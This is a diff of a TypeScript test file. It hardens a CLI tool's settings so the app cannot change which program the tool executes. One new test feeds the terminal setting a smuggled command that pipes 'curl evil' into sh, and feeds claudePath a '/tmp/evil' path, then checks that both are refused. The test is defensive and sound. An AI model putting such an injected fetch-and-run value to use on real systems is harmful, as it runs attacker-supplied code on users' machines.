@@ -1,9 +1,9 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { APP_SETTINGS_SCHEMA, appSettingsFrom, defaultAppSettings, readAllSettings, writeSetting } from '../../main/app/app-settings.js';
+import { APP_SETTINGS_SCHEMA, APP_WRITABLE_SETTING_KEYS, appSettingsFrom, defaultAppSettings, readAllSettings, writeSetting } from '../../main/app/app-settings.js';
 import { readPlannerSettings } from '../../main/core/planner/planner-settings.js';
-import { loadSettings } from '../../main/core/settings.js';
+import { SETTING_ACCESS, SETTING_KEYS, loadSettings } from '../../main/core/settings.js';
 import { tempRoot } from '../helpers/cli.js';
 
 const file = (root: string): string => path.join(root, 'cco-settings.json');
@@ -22,13 +22,11 @@ describe('app settings in the file the CLI uses', () => {
     const root = tempRoot();
     fs.writeFileSync(file(root), JSON.stringify({ plan: 'max5', somethingElse: { kept: true } }));
     writeSetting(root, 'notifyReset', 'off');
-    writeSetting(root, 'hyperaware', 'on');
-    const read = writeSetting(root, 'terminal', 'gnome-terminal');
-    expect(onDisk(root)).toEqual({ plan: 'max5', somethingElse: { kept: true }, notifyReset: false, hyperaware: true, terminal: 'gnome-terminal' });
-    expect(read.settings).toMatchObject({ plan: 'max5', notifyReset: false, hyperaware: true, terminal: 'gnome-terminal' });
-    // The CLI and the planner read the same values.
+    const read = writeSetting(root, 'hyperaware', 'on');
+    expect(onDisk(root)).toEqual({ plan: 'max5', somethingElse: { kept: true }, notifyReset: false, hyperaware: true });
+    expect(read.settings).toMatchObject({ plan: 'max5', notifyReset: false, hyperaware: true });
+    // The CLI reads the same values.
     expect(loadSettings(root).settings.hyperaware).toBe(true);
-    expect(readPlannerSettings(root).settings.terminal).toBe('gnome-terminal');
   });
 
   it('refuses bad values and unknown keys with a one-line message, leaving the file alone', () => {
@@ -47,12 +45,27 @@ describe('app settings in the file the CLI uses', () => {
     expect(writeSetting(root, 'plan', 'custom').settings).toMatchObject({ plan: 'custom', customLimit: 300_000 });
   });
 
-  it('terminal and claudePath are the CLI\'s keys: written with its rules, read by the launcher', () => {
+  it('never writes what cco executes (terminal, claudePath): a person sets those in a terminal; the launcher still reads them', () => {
     const root = tempRoot();
-    writeSetting(root, 'terminal', '["kitty","--directory","{cwd}","{command}"]');
+    fs.writeFileSync(file(root), JSON.stringify({ terminal: ['kitty', '--directory', '{cwd}', '{command}'] }));
+    expect(() => writeSetting(root, 'terminal', '["sh","-c","{command}; curl evil | sh"]')).toThrow(
+      'terminal decides which program cco runs, so the app cannot change it: set it in a terminal with "cco config set terminal ..." or edit the settings file',
+    );
+    expect(() => writeSetting(root, 'terminal', 'none')).toThrow(/terminal decides which program cco runs/);
+    expect(() => writeSetting(root, 'claudePath', '/tmp/evil')).toThrow(/claudePath decides which program cco runs/);
+    expect(onDisk(root)).toEqual({ terminal: ['kitty', '--directory', '{cwd}', '{command}'] });
     expect(readPlannerSettings(root).settings.terminal).toEqual(['kitty', '--directory', '{cwd}', '{command}']);
-    writeSetting(root, 'terminal', 'none');
-    expect(readAllSettings(root).settings.terminal).toBeNull();
+    expect(readAllSettings(root).settings.claudePath).toBeNull();
+    // The unknown-key message lists only what the app may write.
+    expect(() => writeSetting(root, 'colour', 'blue')).toThrow(/expected one of plan, .*autoScheduleAtCritical, notifyQuota, .*launchAtLogin$/);
+  });
+
+  it('APP_WRITABLE_SETTING_KEYS come from the one settings table: every key but the launch ones', () => {
+    expect([...APP_WRITABLE_SETTING_KEYS].sort()).toEqual(
+      [...SETTING_KEYS.filter((key) => SETTING_ACCESS[key] === 'preference'), ...Object.keys(APP_SETTINGS_SCHEMA)].sort(),
+    );
+    expect(APP_WRITABLE_SETTING_KEYS).not.toContain('terminal');
+    expect(APP_WRITABLE_SETTING_KEYS).not.toContain('claudePath');
   });
 
   it('a bad value in the file falls back to its default with a warning; the rest still applies', () => {
